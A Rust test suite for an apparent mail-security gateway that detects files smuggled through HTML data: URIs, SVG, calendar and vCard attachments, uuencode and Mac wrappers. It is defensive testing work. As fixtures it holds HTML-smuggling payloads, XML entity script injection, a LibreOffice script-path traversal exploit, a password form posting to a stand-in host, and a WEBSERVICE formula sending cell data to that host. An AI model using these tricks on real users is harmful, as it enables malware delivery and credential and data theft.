//! Files within texts and old wrappings: addresses of pages, calendars, cards, uuencode, Macs' forks.

use super::{deeds, facts, inside, letter, program, zip};
use crate::support::base64;
use crate::support::gate::{Gate, judge};
use congthu::verdict::Action;

fn flat(bytes: &[u8]) -> String {
    base64(bytes).replace(['\n', '\r'], "")
}

fn percent(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("%{byte:02X}")).collect()
}

fn folded(line: &str) -> String {
    let pieces: Vec<&str> =
        line.as_bytes().chunks(74).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
    pieces.join("\r\n ")
}

#[track_caller]
fn action(name: &str, bytes: &[u8]) -> Action {
    judge(&Gate::with_builtin_rules(), "base", &letter(name, bytes)).action
}

#[test]
fn addresses_are_decoded_however_they_are_written() {
    let exe = program();
    let packed = zip(&[("hd.exe", &exe)]);
    let (raw, in_base64) = (percent(&exe), flat(&packed));
    let entities: String = "data:".chars().map(|c| format!("&#{};", u32::from(c))).collect();
    let lines = base64(&packed);
    for (page, expected) in [
        (format!("<a href=\"data:application/octet-stream,{raw}\">x</a>"), "payload1.exe"),
        (format!("<a download='a.dat' href='data:,{raw}'>x</a>"), "a.dat"),
        (
            format!(
                "<a href='data:application/zip;base64,{}'>x</a>",
                percent(in_base64.as_bytes())
            ),
            "payload1.zip",
        ),
        (format!("<area href=data:;base64,{in_base64} download>"), "payload1.zip"),
        (format!("<a href=' DA\tta:x/y ; base64,{lines}'>x</a>"), "payload1.zip"),
        (format!("<a href='{entities}x/y;base64&comma;{in_base64}'>x</a>"), "payload1.zip"),
        ("<a href='data:text/plain,%40echo%20off' download='a.bat'>x</a>".to_owned(), "a.bat"),
        (
            "<svg xmlns:x='y'><a x:href='data:,xin%20chao' download='a.vbs'/></svg>".to_owned(),
            "a.vbs",
        ),
        (
            "<script>l.href='data:,%40echo';l.download = \"a.cmd\";l.click()</script>".to_owned(),
            "a.cmd",
        ),
        (format!("<style>p{{background:url(data:x/y,{raw})}}</style>"), "payload1.exe"),
        (format!("<p style=\"background:url('data:x/y;base64,{in_base64}')\">"), "payload1.zip"),
    ] {
        let page = format!("<html>{page}</html>");
        let shown: String = page.chars().take(90).collect();
        let paths = inside("a.html", page.as_bytes());
        assert!(paths.contains(&format!("2/a.html/{expected}")), "{paths:?} {shown}");
        assert_eq!(action("a.html", page.as_bytes()), Action::Reject, "{shown}");
        let mail = format!(
            "From: a@mail.example\r\nTo: b@mail.example\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{page}\r\n"
        );
        assert!(
            facts(mail.into_bytes()).parts.iter().any(|part| part.path == format!("1/{expected}")),
            "{shown}"
        );
    }
}

#[test]
fn pictures_and_tables_of_a_page_are_no_smuggling() {
    let png = percent(&[b"\x89PNG\r\n\x1a\n".as_slice(), &[7; 600]].concat());
    let svg = percent(b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>");
    for page in [
        format!("<img src=\"data:image/png,{png}\">"),
        format!("<a download='anh.png' href=\"data:image/png,{png}\">x</a>"),
        format!("<p style=\"background:url(data:image/svg+xml,{svg})\">"),
        format!(
            "<img src='data:image/svg+xml;base64,{}'>",
            flat(b"<svg xmlns='http://www.w3.org/2000/svg'/>")
        ),
        "<p>Metadata: so lieu, data: ten, tuoi</p>".to_owned(),
    ] {
        let page = format!("<html>{page}</html>");
        assert_eq!(inside("a.html", page.as_bytes()), Vec::<String>::new(), "{page}");
        assert_eq!(deeds("a.html", page.as_bytes()), Vec::<String>::new(), "{page}");
    }
    let table = "<html><a download='so-lieu.csv' href='data:text/csv,Huyen%2CSo%0AGo%20Cong%2C98'>x</a></html>";
    assert_eq!(inside("a.html", table.as_bytes()), ["2/a.html/so-lieu.csv"]);
    assert_eq!(deeds("a.html", table.as_bytes()), Vec::<String>::new());
    // A drawing that acts is a file of its own.
    let acts = format!(
        "<html><embed src='data:image/svg+xml,{}'></html>",
        percent(b"<svg xmlns='http://www.w3.org/2000/svg' onload='go()'/>")
    );
    assert_eq!(inside("a.html", acts.as_bytes()), ["2/a.html/payload1.svg"]);
}

#[test]
fn many_attributes_hide_none() {
    let junk: String = (0..200).map(|n| format!("a{n}=b href{n}=c onclick{n}='' ")).collect();
    let page = format!("<html><img {junk} onerror=go()></html>");
    assert_eq!(deeds("a.html", page.as_bytes()), ["script@2"]);
    let junk: String = (0..2000).map(|n| format!("a{n}:href=b ")).collect();
    let page = format!("<svg {junk} x:href='javascript:go()'/>");
    assert_eq!(deeds("a.svg", page.as_bytes()), ["script@2"]);
}

#[test]
fn forms_send_to_where_the_base_and_the_button_say() {
    for (form, sends) in [
        (
            "<base href='http://may-chu.example/'><form action='p.php'><input type=password></form>",
            true,
        ),
        ("<form action='p.php'><input type=password></form><base href='//may-chu.example/'>", true),
        (
            "<form><input type=password><button formaction='http://may-chu.example'>x</button></form>",
            true,
        ),
        (
            "<form><input type=password><input type=submit formaction=//may-chu.example/a></form>",
            true,
        ),
        ("<base href='http://may-chu.example/'><form><input type=password></form>", false),
        ("<base href='/a/'><form action='p.php'><input type=password></form>", false),
        (
            "<base href='http://may-chu.example/'><form action='tim.php'><input name=q></form>",
            false,
        ),
    ] {
        let page = format!("<html>{form}</html>");
        let expected: &[&str] = if sends { &["credentials@2"] } else { &[] };
        assert_eq!(deeds("a.html", page.as_bytes()), expected, "{form}");
    }
}

#[test]
fn entities_and_style_sheets_make_markup() {
    let svg = |declared: &str| {
        format!(
            "<?xml version='1.0'?><!DOCTYPE svg [{declared}]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>"
        )
    };
    for (declared, runs) in [
        ("<!ENTITY x \"&#60;script&#62;alert(1)&#60;/script&#62;\">", true),
        ("<!ENTITY x '<script>alert(1)</script>'>", true),
        ("<!ENTITY a 'java'><!ENTITY b 'scr'>", true),
        ("<!ENTITY % a '&#60;!ENTITY x \"y\">'> %a;", true),
        (
            "<!ENTITY ns_svg \"http://www.w3.org/2000/svg\"><!ENTITY st0 \"fill:#000;stroke:none\">",
            false,
        ),
        ("<!ENTITY nbsp '&#160;'>", false),
    ] {
        let found = deeds("a.svg", svg(declared).as_bytes());
        assert_eq!(found.iter().any(|word| word == "script@2"), runs, "{declared} {found:?}");
    }
    let sheet = "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#s'?><x><xsl:stylesheet id='s' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><xsl:element name='script'>alert(1)</xsl:element></xsl:template></xsl:stylesheet></x>";
    assert_eq!(deeds("a.xml", sheet.as_bytes()), ["script@2"]);
    let invoice = "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='hoadon.xsl'?><HDon><TTChung/></HDon>";
    assert_eq!(deeds("a.xml", invoice.as_bytes()), Vec::<String>::new());
    let book =
        "<?xml version='1.0'?><!DOCTYPE book [<!ENTITY so 'So Tai nguyen'>]><book>&so;</book>";
    assert_eq!(deeds("a.xml", book.as_bytes()), Vec::<String>::new());
}

#[test]
fn scripts_of_the_office_are_not_climbed_to() {
    let odt = |target: &str| {
        let content = format!(
            "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"><script:event-listener script:event-name=\"dom:load\" xlink:href=\"{target}\"/></office:document-content>"
        );
        zip(&[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", content.as_bytes()),
        ])
    };
    for (target, found) in [
        (
            "vnd.sun.star.script:../../../program/python-core/lib/pydoc.py$tempfilepager(1,echo)?language=Python&amp;location=share",
            vec!["exploit@2/a.odt/content.xml"],
        ),
        (
            "vnd.sun.star.script:%2E%2E/a.py$b?language=Python&amp;location=share",
            vec!["exploit@2/a.odt/content.xml"],
        ),
        (
            "vnd.sun.star.script:LibreLogo/a.py$run(x)?language=Python&amp;location=share",
            vec!["exploit@2/a.odt/content.xml"],
        ),
        ("vnd.sun.star.script:HelloWorld.py$hello?language=Python&amp;location=share", vec![]),
    ] {
        assert_eq!(deeds("a.odt", &odt(target)), found, "{target}");
    }
}

#[test]
fn workbooks_that_fetch_are_told() {
    let book = |path: &str, xml: &str| {
        super::ooxml(
            "spreadsheetml.sheet",
            &[("xl/workbook.xml", b"<workbook/>"), (path, xml.as_bytes())],
        )
    };
    for (path, xml, found) in [
        (
            "xl/connections.xml",
            "<connections><connection refreshOnLoad=\"1\"><webPr url=\"http://may-chu.example/\"/></connection></connections>",
            1,
        ),
        (
            "xl/connections.xml",
            "<connections><connection refreshOnLoad=\"true\" odcFile=\"\\\\may-chu.example\\a.odc\"><dbPr/></connection></connections>",
            1,
        ),
        (
            "xl/connections.xml",
            "<connections><connection><webPr url=\"http://may-chu.example/\"/></connection></connections>",
            0,
        ),
        (
            "xl/connections.xml",
            "<connections><connection refreshOnLoad=\"1\"><dbPr connection=\"Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$\"/></connection></connections>",
            0,
        ),
        (
            "xl/worksheets/sheet1.xml",
            "<worksheet><c><f>_xlfn.WEBSERVICE(\"http://may-chu.example/\"&amp;A1)</f></c></worksheet>",
            1,
        ),
        (
            "xl/worksheets/sheet1.xml",
            "<worksheet><c t='inlineStr'><is><t>WEBSERVICE(</t></is></c></worksheet>",
            0,
        ),
    ] {
        let remote = deeds("a.xlsx", &book(path, xml))
            .iter()
            .filter(|word| word.starts_with("remote@"))
            .count();
        assert_eq!(remote, found, "{xml}");
    }
}

#[test]
fn files_in_calendars_and_cards_are_members() {
    let exe = flat(&program());
    for (line, expected) in [
        (format!("ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=\"hoso.exe\":{exe}"), "hoso.exe"),
        (
            format!("ATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY:{exe}"),
            "attachment1.pdf",
        ),
        (format!("attach;value=binary;encoding=base64;filename=\"a:b;c.exe\":{exe}"), "a:b;c.exe"),
        (format!("ATTACH;VALUE=URI;FILENAME=a.dat:data:application/pdf;base64,{exe}"), "a.dat"),
        (format!("item1.PHOTO;ENCODING=b;TYPE=JPEG:{exe}"), "attachment1.exe"),
        (format!("PHOTO:data:image/jpeg;base64,{exe}"), "attachment1.exe"),
        (
            format!("LOGO;ENCODING=b:{}", flat(&[b"MZ".as_slice(), &[0; 90]].concat())),
            "attachment1.dos",
        ),
        (format!("PHOTO;BASE64:\r\n {exe}\r\n"), "attachment1.exe"),
        (format!("X-ATTACH;ENCODING=BASE64:{}", flat(b"xin chao")), "attachment1.txt"),
    ] {
        for (name, kind) in [("a.ics", "VCALENDAR"), ("a.vcf", "VCARD"), ("a.dat", "VCALENDAR")] {
            let text =
                format!("BEGIN:{kind}\r\nVERSION:2.0\r\n{}\r\nEND:{kind}\r\n", folded(&line));
            let paths = inside(name, text.as_bytes());
            assert_eq!(paths, [format!("2/{name}/{expected}")], "{}", &line[..40]);
        }
        // Lines that end in LF alone, and vCard 2.1 without blanks in front.
        let bare = folded(&line).replace("\r\n ", "\n");
        let paths = inside("a.vcf", format!("BEGIN:VCARD\n{bare}\n\nEND:VCARD\n").as_bytes());
        assert!(!paths.is_empty(), "{}", &line[..40]);
    }
    let text = format!(
        "BEGIN:VCALENDAR\r\n{}\r\nEND:VCALENDAR\r\n",
        folded(&format!("ATTACH;ENCODING=BASE64;VALUE=BINARY:{exe}"))
    );
    let mail = format!(
        "From: a@mail.example\r\nTo: b@mail.example\r\nMIME-Version: 1.0\r\nContent-Type: text/calendar; method=REQUEST\r\n\r\n{text}"
    );
    assert_eq!(judge(&Gate::with_builtin_rules(), "base", mail.as_bytes()).action, Action::Reject);
}

#[test]
fn ordinary_calendars_and_cards_carry_nothing() {
    let jpg = flat(
        &[b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0".as_slice(), &[5; 300]].concat(),
    );
    for text in [
        format!("BEGIN:VCARD\r\nFN:Nguyen Van A\r\nPHOTO;ENCODING=b;TYPE=JPEG:{}\r\nEND:VCARD\r\n", folded(&jpg)),
        "BEGIN:VCARD\r\nNOTE;ENCODING=b:WGluIGNoYW8=\r\nEND:VCARD\r\n".to_owned(),
        "BEGIN:VCALENDAR\r\nSUMMARY:Data: bao cao, so lieu\r\nATTACH:https://mail.example/a.exe\r\nATTACH;VALUE=URI:CID:a@mail.example\r\nEND:VCALENDAR\r\n".to_owned(),
    ] {
        for name in ["a.ics", "a.vcf"] {
            assert_eq!(inside(name, text.as_bytes()), Vec::<String>::new(), "{text}");
        }
    }
}

#[test]
fn old_wrappings_are_opened_or_named() {
    let exe = program();
    let entry = |id: u32, at: usize, length: usize| {
        [id, at as u32, length as u32].map(u32::to_be_bytes).concat()
    };
    let apple = |last: u8| {
        let head = [&[0, 5, 0x16, last, 0, 2, 0, 0][..], &[0; 16], &[0, 2]].concat();
        [head, entry(3, 50, 5), entry(1, 55, exe.len()), b"a.exe".to_vec(), exe.clone()].concat()
    };
    let mut mac = vec![0; 128];
    mac[1] = 5;
    mac[2..7].copy_from_slice(b"a.exe");
    mac[65..73].copy_from_slice(b"APPLmdos");
    mac[83..87].copy_from_slice(&(exe.len() as u32).to_be_bytes());
    for bytes in [apple(0), apple(7), [mac, exe.clone()].concat()] {
        assert_eq!(inside("a.bin", &bytes), ["2/a.bin/a.exe"]);
        assert_eq!(action("a.bin", &bytes), Action::Reject);
    }
    // Icons and comments of every file that a Mac packs.
    let icons =
        [&[0, 5, 0x16, 7, 0, 2, 0, 0][..], &[0; 16], &[0, 1], &entry(9, 38, 32), &[0; 32]].concat();
    assert_eq!(inside("a.bin", &icons), Vec::<String>::new());
    for magic in [b"SZDD\x88\xf0\x27\x33A\0", b"KWAJ\x88\xf0\x27\xd1\0\0"] {
        let facts = facts(letter("a.ex_", &[magic.as_slice(), &[9; 200]].concat()));
        assert_eq!(facts.obstacles.len(), 1);
    }
}

#[test]
fn uuencode_in_archives_and_wide_texts_is_opened() {
    let lines: Vec<String> = program()
        .chunks(45)
        .map(|line| {
            let digit = |value: u8| char::from(if value == 0 { b'`' } else { value + 32 });
            let mut text = digit(line.len() as u8).to_string();
            for three in line.chunks(3) {
                let byte = |at: usize| three.get(at).copied().unwrap_or(0);
                let (a, b, c) = (byte(0), byte(1), byte(2));
                text.extend(
                    [a >> 2, (a << 4 | b >> 4) & 63, (b << 2 | c >> 6) & 63, c & 63].map(digit),
                );
            }
            text
        })
        .collect();
    let text = format!("begin 644 a.dat\r\n{}\r\n`\r\nend\r\n", lines.join("\r\n"));
    assert_eq!(
        inside("a.zip", &zip(&[("a.uue", text.as_bytes())])),
        ["2/a.zip/a.uue", "2/a.zip/a.uue/a.dat"]
    );
    let wide: Vec<u8> =
        format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(inside("a.txt", &wide), ["2/a.txt/a.dat"]);
    assert_eq!(action("a.txt", &wide), Action::Reject);
    let yenc = "=ybegin line=128 size=3 name=a.exe\r\nabc\r\n=yend size=3\r\n";
    assert_eq!(facts(letter("a.zip", &zip(&[("a.ync", yenc.as_bytes())]))).obstacles.len(), 1);
}

#[test]
fn what_is_behind_the_last_file_that_is_opened_is_told() {
    let small = "begin 644 a.txt\r\n#86)C\r\n`\r\nend\r\n";
    let empty = "begin 644 a.txt\r\n";
    for (text, told) in [
        (small.repeat(64), false),
        (small.repeat(65), true),
        (empty.repeat(1000), false),
        (empty.repeat(1001), true),
    ] {
        let found = facts(letter("a.zip", &zip(&[("a.uue", text.as_bytes())])));
        let details: Vec<&str> = found.obstacles.iter().map(|o| o.detail.as_str()).collect();
        let expected: &[&str] = if told { &["more uuencoded files than are opened"] } else { &[] };
        assert_eq!(details, expected, "{}", text.len());
        let mail = format!("Subject: a\r\n\r\n{text}");
        let judged = judge(&Gate::with_builtin_rules(), "base", mail.as_bytes());
        let limited =
            judged.findings.iter().any(|found| found.finding.kind.name == "mime.over_limit");
        assert!(limited || !told, "{}", text.len());
    }
}
